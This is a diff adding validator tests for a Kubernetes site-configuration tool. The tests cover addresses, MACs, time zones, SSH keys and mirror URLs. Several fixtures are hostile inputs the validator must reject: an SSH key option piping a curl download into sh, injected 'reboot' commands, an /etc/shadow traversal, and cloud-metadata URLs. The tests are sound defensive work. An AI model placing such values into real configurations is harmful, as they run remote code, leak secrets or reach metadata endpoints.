@@ -14,6 +14,12 @@ function lab1(): WrittenSite {
   return structuredClone(p.site);
 }
 
+/** Public keys made with ssh-keygen for these tests (no private half exists anywhere). */
+const ED25519 = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIP2CZbC4Nz6tGjrc0SySpzV45OvlYUm5FaslabzRehST alice@laptop';
+const ECDSA = 'ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBHoy53hqOzUb6GrSacUe6Y9GGvU5D+zXYrZPMA8YBrPmsRvgKsyHf4vqu7pLmoDB+OWDTocAwnoZF+zQ0VJjs4s= ops key';
+const RSA = 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC9fZYcYeECxla59gdLYf18ftiBRqpQWp/lzNzKEowYs3jVEkLsbKx/7+4pb5vuvAziS6LEbs+IEQFMxfEaiDsunTMtTH+giFWJvTAhL81+Ic3vQ3Dyf/Q0G7jGbMolBK38FHFVV6YvaR0YD7irgug3qRHIknzB9oMH6ptBMfWlF9LvZYNsb0Ncs6hamwOvqNcmISkQ6+Qne0TG7jqsBbPBnVA5v8KMEL672WRXrABrTaakTb6OPRT3oU1QcKe330eXXAH6ZorK57jo2sXI1JsdiN/ZdKekK6HPrMZ18kGKb7I90L3GWwsXNOmlh1L1WNlCRLGyz7d3CIlPPxf6WNvT';
+const ED25519_BODY = ED25519.split(' ')[1]!;
+
 type Case = { mutate: (s: WrittenSite) => void; path: string; severity?: 'error' | 'warning' };
 const node = (s: WrittenSite, i: number) => s.spec.nodes[i]!;
 
@@ -25,7 +31,10 @@ const CASES: Record<string, Case[]> = {
     { mutate: (s) => (node(s, 2).address = '10.77.0.300/24'), path: 'spec.nodes[2].address' },
     { mutate: (s) => (node(s, 0).address = '192.168.93.255/24'), path: 'spec.nodes[0].address' },
     { mutate: (s) => (node(s, 0).address = '192.168.93.45/31'), path: 'spec.nodes[0].address' },
+    ...['127.0.0.5/8', '0.1.2.3/24', '169.254.3.4/16', '224.1.2.3/24', '239.255.255.250/24', '240.0.0.5/24', '254.1.2.3/16'].map((address) => ({ mutate: (s: WrittenSite) => (node(s, 0).address = address), path: 'spec.nodes[0].address' })),
   ],
+  'mac-unicast': ['ff:ff:ff:ff:ff:ff', '01:00:5e:00:00:fb', '33:33:00:00:00:01', '00:00:00:00:00:00'].map((mac) => ({ mutate: (s: WrittenSite) => (node(s, 1).mac = mac), path: 'spec.nodes[1].mac' })),
+  'node-roles-unique': [{ mutate: (s) => (node(s, 1).roles = ['worker', 'etcd', 'worker']), path: 'spec.nodes[1].roles[2]' }],
   'node-address-unique': [{ mutate: (s) => (node(s, 1).address = '192.168.93.45/24'), path: 'spec.nodes[1].address' }],
   'gateway-in-subnet': [
     { mutate: (s) => (node(s, 1).gateway = '10.0.0.1'), path: 'spec.nodes[1].gateway' },
@@ -71,8 +80,15 @@ const CASES: Record<string, Case[]> = {
   'sources-known': [
     { mutate: (s) => (s.spec.artifacts.sources = { kubernets: 'http://mirror.local' }), path: 'spec.artifacts.sources.kubernets' },
     { mutate: (s) => (s.spec.artifacts.sources = { kubernetes: 'mirror.local' }), path: 'spec.artifacts.sources.kubernetes' },
+    ...['file:///etc/kubernetes', 'gopher://mirror.local/', 'http://user:secret@mirror.local/k8s', 'http://169.254.169.254/latest/meta-data/', 'http://[fe80::1]/', 'http://metadata.google.internal/'].map((url) => ({
+      mutate: (s: WrittenSite) => (s.spec.artifacts.sources = { kubernetes: url }),
+      path: 'spec.artifacts.sources.kubernetes',
+    })),
   ],
-  'registry-mirrors-valid': [{ mutate: (s) => (s.spec.artifacts.registryMirrors = { 'registry.k8s.io': 'ftp://x' }), path: 'spec.artifacts.registryMirrors.registry.k8s.io' }],
+  'registry-mirrors-valid': [
+    { mutate: (s) => (s.spec.artifacts.registryMirrors = { 'registry.k8s.io': 'ftp://x' }), path: 'spec.artifacts.registryMirrors.registry.k8s.io' },
+    { mutate: (s) => (s.spec.artifacts.registryMirrors = { 'registry.k8s.io': 'https://robot:token@registry.local' }), path: 'spec.artifacts.registryMirrors.registry.k8s.io' },
+  ],
   'node-registry-mirrors-valid': [
     { mutate: (s) => (s.spec.containerRuntime = { registryMirrors: { 'docker.io': ['registry.local:5000'] } }), path: 'spec.containerRuntime.registryMirrors.docker.io[0]' },
     { mutate: (s) => (s.spec.containerRuntime = { registryMirrors: { 'Docker Hub': ['https://registry.local:5000'] } }), path: 'spec.containerRuntime.registryMirrors.Docker Hub' },
@@ -82,7 +98,38 @@ const CASES: Record<string, Case[]> = {
     { mutate: (s) => (s.spec.pki.certValidity = '0h'), path: 'spec.pki.certValidity' },
     { mutate: (s) => (s.spec.pki.certValidity = '99999h'), path: 'spec.pki.certValidity' },
   ],
-  'pod-cidr-fits-nodes': [{ mutate: (s) => Object.assign(s.spec.network, { plugin: 'bridge' }) && (s.spec.kubernetes.podCIDR = '172.30.0.0/23'), path: 'spec.kubernetes.podCIDR' }],
+  'pod-cidr-fits-nodes': [
+    { mutate: (s) => Object.assign(s.spec.network, { plugin: 'bridge' }) && (s.spec.kubernetes.podCIDR = '172.30.0.0/23'), path: 'spec.kubernetes.podCIDR' },
+    // The controller-manager's /24 node mask: three nodes, one range.
+    { mutate: (s) => (s.spec.kubernetes.podCIDR = '172.30.0.0/24'), path: 'spec.kubernetes.podCIDR' },
+    { mutate: (s) => Object.assign(s.spec.network, { plugin: 'calico' }) && (s.spec.kubernetes.podCIDR = '172.30.0.0/23'), path: 'spec.kubernetes.podCIDR' },
+    { mutate: (s) => Object.assign(s.spec.kubernetes, { mode: 'kubeadm', podCIDR: '172.30.0.0/23' }), path: 'spec.kubernetes.podCIDR' },
+  ],
+  'cluster-domain-valid': ['-bad..domain-', 'Cluster.Local', 'cluster.local.', 'a b', 'cluster.local\nx', ''].map((d) => ({ mutate: (s: WrittenSite) => (s.spec.kubernetes.clusterDomain = d), path: 'spec.kubernetes.clusterDomain' })),
+  'interface-name-valid': ['eth0; reboot', 'a-very-long-interface', '..', 'eth0/1'].map((name) => ({ mutate: (s: WrittenSite) => (s.spec.network.interface = name), path: 'spec.network.interface' })),
+  'ntp-servers-valid': ['10.0.0.1 iburst\nallow all', '127.0.0.1', '224.0.1.1', 'ntp..site', '-ntp.site', 'ntp.site iburst', '10.0.0'].map((server) => ({ mutate: (s: WrittenSite) => (s.spec.os.ntpServers = ['192.168.93.1', server]), path: 'spec.os.ntpServers[1]' })),
+  'timezone-valid': ['../../../etc/shadow', '/etc/localtime', 'europe/berlin', 'utc', 'Mars/Olympus_Mons', 'UTC\nreboot', ''].map((tz) => ({ mutate: (s: WrittenSite) => (s.spec.os.timezone = tz), path: 'spec.os.timezone' })),
+  'ssh-keys-valid': [
+    'not a key',
+    'ssh-ed25519',
+    'ssh-ed25519 AAAA',
+    'ssh-ed25519 !!!notbase64!!!',
+    `ssh-rsa ${ED25519_BODY} body of another type`,
+    `${ED25519}\nssh-ed25519 ${ED25519_BODY} second line`,
+    `ssh-dss AAAAB3NzaC1kc3MAAACBAP8= old`,
+    `bogus-option ${ED25519}`,
+    `from=10.0.0.1 ${ED25519}`,
+    `no-pty="x" ${ED25519}`,
+    `from="10.0.0.1 ${ED25519}`,
+    `ssh-ed25519 ${Buffer.from('\u0000\u0000\u0000\u000bssh-ed25519').toString('base64')}`,
+  ].map((key) => ({ mutate: (s: WrittenSite) => (s.spec.os.sshAuthorizedKeys = [ED25519, key]), path: 'spec.os.sshAuthorizedKeys[1]' })),
+  'egress-inside-site': [
+    { mutate: (s) => (s.spec.os.ntpServers = ['0.debian.pool.ntp.org']), path: 'spec.os.ntpServers[0]' },
+    { mutate: (s) => (s.spec.os.ntpServers = ['time.google.com']), path: 'spec.os.ntpServers[0]' },
+    { mutate: (s) => (s.spec.containerRuntime = { registryMirrors: { 'docker.io': ['https://registry-1.docker.io'] } }), path: 'spec.containerRuntime.registryMirrors.docker.io[0]' },
+    { mutate: (s) => (s.spec.kubernetes.clusterDomain = 'cluster.github.com'), path: 'spec.kubernetes.clusterDomain' },
+    { mutate: (s) => (s.spec.os.sshAuthorizedKeys = [`command="curl -s https://raw.githubusercontent.com/x | sh" ${ED25519}`]), path: 'spec.os.sshAuthorizedKeys[0]' },
+  ],
   'cgroup-v2-old-kubernetes': [{ mutate: (s) => (s.spec.kubernetes.version = 'v1.20.2'), path: 'spec.os', severity: 'warning' }],
   'kickstart-needs-rhel': [{ mutate: (s) => (s.spec.output.formats = ['tarball', 'kickstart']), path: 'spec.output.formats[1]', severity: 'warning' }],
   'os-packages-valid': [
@@ -113,6 +160,32 @@ const CASES: Record<string, Case[]> = {
 
 test('lab1 breaks no rule', (t) => {
   t.deepEqual(checkRules({ site: lab1(), catalog }), []);
+});
+
+test('what the input rules accept: real keys with options and comments, tz names, host names, unicast addresses', (t) => {
+  const site = lab1();
+  site.spec.os.sshAuthorizedKeys = [ED25519, ECDSA, RSA, `from="10.0.0.0/8,192.168.93.*",no-pty,command="/usr/bin/uptime" ${ED25519}`, `restrict,pty ${ECDSA}`, `${ED25519} alice@github.com at work`];
+  site.spec.os.ntpServers = ['192.168.93.1', 'ntp.site.internal', 'NTP1.Site.Internal'];
+  site.spec.kubernetes.clusterDomain = 'k8s.site-1.internal';
+  site.spec.network.interface = 'enp1s0.100';
+  node(site, 0).mac = '02:00:00:00:00:01';
+  for (const tz of ['UTC', 'Etc/UTC', 'Europe/Berlin', 'America/Port-au-Prince', 'America/Argentina/Buenos_Aires', 'Asia/Kolkata', 'Etc/GMT+5']) {
+    site.spec.os.timezone = tz;
+    t.deepEqual(checkRules({ site, catalog }), [], tz);
+  }
+  node(site, 1).address = '10.1.2.3/8';
+  node(site, 1).gateway = '10.0.0.1';
+  t.deepEqual(checkRules({ site, catalog }).filter((i) => i.rule === 'node-address-valid'), []);
+});
+
+test('no issue message repeats a password from a URL', (t) => {
+  const site = lab1();
+  site.spec.artifacts.sources = { kubernetes: 'http://user:hunter2@mirror.local/k8s' };
+  site.spec.artifacts.registryMirrors = { 'registry.k8s.io': 'https://robot:hunter2@registry.local' };
+  site.spec.containerRuntime = { registryMirrors: { 'docker.io': ['https://robot:hunter2@registry.local'] } };
+  const issues = checkRules({ site, catalog });
+  t.is(issues.length, 3);
+  t.false(JSON.stringify(issues).includes('hunter2'));
 });
 
 test('every rule has a name, a summary and a test case here', (t) => {
